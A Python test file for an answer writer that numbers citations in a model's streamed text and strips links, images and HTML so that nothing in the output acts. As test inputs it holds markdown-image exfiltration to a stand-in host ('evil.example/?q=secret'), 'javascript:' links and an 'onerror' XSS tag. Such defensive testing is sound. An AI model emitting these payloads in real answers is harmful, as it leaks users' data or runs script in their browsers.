"""What readers get of a model's text: numbered citations, nothing that acts, whatever the pieces."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from shared.answer.writer import AnswerWriter

KNOWN = frozenset({"psg_a", "psg_b", "chk-1"})


def write(text: str, size: int | None = None) -> str:
    writer = AnswerWriter(KNOWN)
    step = size or max(1, len(text))
    pieces = (text[at : at + step] for at in range(0, len(text), step))
    return "".join(map(writer.feed, pieces)) + writer.close()


CASES = [
    ("Leave is 25 days [[psg_a]].", "Leave is 25 days [1]."),
    ("A [[psg_b]], B [[psg_a]], again [[psg_b]]", "A [1], B [2], again [1]"),
    ("Both [[psg_a, psg_b]][[chk-1]]", "Both [1][2][3]"),
    ("Both [[psg_a; psg_a]]", "Both [1]"),
    ("Invented [[psg_z]], mixed [[psg_z, psg_a]].", "Invented, mixed [1]."),
    ("年假二十五天[[psg_a]]。", "年假二十五天[1]。"),
    ("Cut off [[psg_", "Cut off"),
    ("Cut off [[psg_a]", "Cut off"),
    ("In bash [[ -f x ]] tests.", "In bash [[ -f x ]] tests."),
    ("![pixel](https://evil.example/?q=secret) seen", "pixel seen"),
    ("![p][ref] and [ref]: https://evil.example/x", "p and [ref] : `https://evil.example/x`"),
    ("[click](https://evil.example/a_(b)) here", "click here"),
    ("[click](javascript:alert(1)) here", "click here"),
    ("Go to https://host.example/path?a=1, now.", "Go to `https://host.example/path?a=1`, now."),
    ("Go to <https://host.example/x> now", "Go to `https://host.example/x` now"),
    ("见 https://host.example/路径。好", "见 `https://host.example/路径`。好"),
    ("www.evil.example/x", "`www.evil.example/x`"),
    ("<b>bold</b> <img src=x onerror=alert(1)> <!-- c --> 5 < 6", "bold   5 < 6"),
    ("<img\nsrc=x>", "&lt;img\nsrc=x>"),
    ("[text\n](https://evil.example)", "[text\n] (`https://evil.example`)"),
    ("Code `<b>[[psg_a]]` stays", "Code `<b>[[psg_a]]` stays"),
    ("[`words`](https://evil.example) x", "[`words`] (`https://evil.example`) x"),
    ("one ` tick\nand ` ![p](https://evil.example) `", "one \\` tick\nand ` ![p](https://evil.example) `"),
    ("\\` ![p](https://evil.example) `", "\\` p \\`"),
    ("\\\\` ![p](https://evil.example) `", "\\\\\\` p \\`"),
    ("[a][[psg_z]](https://evil.example)", "[a] (`https://evil.example`)"),
    ("<[[psg_z]]b>x", "< b>x"),
    ("<[b](x)>y", "&lt;b>y"),
    ("`code`https://host.example/x", "`code` `https://host.example/x`"),
    ("```html\n<b>[[psg_a]]</b>\n```\n<b>x</b>", "```html\n<b>[[psg_a]]</b>\n```\nx"),
    ("- a\n  ```\n<img src=x>", "- a\n  \\`\\`\\`\n"),
    ("~~~\n```\n<i>\n~~~\n<i>y</i>", "~~~\n```\n<i>\n~~~\ny"),
    ("hid\u200bden\u202e text\r\nnext", "hidden text\nnext"),
    ("row[0][1] and a[b](c), `row[0]`", "row(0)(1) and ab, `row[0]`"),
    ("As shown [1], [2, 3] and \\[4\\]; [^5] [[psg_a]].", "As shown (1), (2, 3) and (4); (5) [1]."),
    ("见注[1]。[[psg_a]] [link][2] [1]: x", "见注(1)。[1] [link] (2) (1): x"),
    ("[[psg_b][1]] [[1]] [1[[psg_z]]]", "[[psg_b] (1)] [1 ]"),
    ("| a | b [[psg_a]] |\n|---|---|\n| 1 | <br> |", "| a | b [1] |\n|---|---|\n| 1 |  |"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "written"), CASES)
def test_writes(text: str, written: str) -> None:
    assert write(text) == written


@pytest.mark.parametrize(("text", "written"), CASES)
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_pieces_do_not_change_it(text: str, written: str, size: int) -> None:
    assert write(text, size) == written


MARKS = ["[[psg_a]]", "[[x]]", "[", "]", "(", ")", "<b>", "<", ">", "`", "```", "~~~", "!", ":", "\\"]
BLOCKS = ["\n", "\n```\n", "\n~~~\n", "\n  ```\n", "\n  ~~~\n", "\n- ```\n", "- ", "> ", "    ", "\t"]
WHOLE = ["[a](/u)", "![a](/u)", "[a]: /u", "<http://e.x>", "<img src=x", "<!--", "-->", "&lt;", "www.e.x"]
ALPHABET = st.sampled_from([*MARKS, *BLOCKS, *WHOLE, "a", "汉", "http://e.x/", "\u200b", " "])


@given(st.lists(ALPHABET, max_size=40).map("".join), st.integers(1, 9))
def test_any_text_in_any_pieces(text: str, size: int) -> None:
    assert write(text, size) == write(text)


@given(st.lists(ALPHABET, max_size=40).map("".join))
def test_nothing_acts_in_what_a_markdown_reader_makes_of_it(text: str) -> None:
    blocks = MarkdownIt("commonmark").parse(write(text))
    kinds = {block.type for block in blocks} | {part.type for b in blocks for part in b.children or []}
    assert kinds.isdisjoint({"link_open", "image", "html_inline", "html_block"})


def test_a_stream_is_not_held_back_without_need() -> None:
    writer = AnswerWriter(KNOWN)
    assert writer.feed("Employees get ") == "Employees get"
    assert writer.feed("25 days [[psg") == " 25 days"
    assert writer.feed("_a]] a year") == " [1] a"
    assert writer.close() == " year"
    assert writer.cited == ("psg_a",)


def test_numbers_are_given_in_order_of_appearance() -> None:
    writer = AnswerWriter(KNOWN)
    writer.feed("x [[chk-1]] [[psg_a]]\n")
    writer.feed("y [[psg_b]] [[chk-1]]")
    writer.close()
    assert writer.cited == ("chk-1", "psg_a", "psg_b")


PLAIN = st.sampled_from(
    [
        "[1]",
        "[2]",
        "[",
        "]",
        "[[psg_a]]",
        "[[psg_b]]",
        "[[x]]",
        "[[1]]",
        "1",
        "2",
        "\\",
        "^",
        "(",
        ")",
        " ",
        ",",
        "a",
        "汉",
    ]
)


@given(st.lists(PLAIN, max_size=30).map("".join), st.integers(1, 9))
def test_only_our_own_numbers_look_like_citations(text: str, size: int) -> None:
    writer = AnswerWriter(KNOWN)
    written = (
        "".join(map(writer.feed, (text[at : at + size] for at in range(0, len(text), size)))) + writer.close()
    )
    numbers = [int(n) for n in re.findall(r"\[(\d+)\]", written)]
    assert len(numbers) <= text.count("psg_")
    assert set(numbers) <= set(range(1, len(writer.cited) + 1))
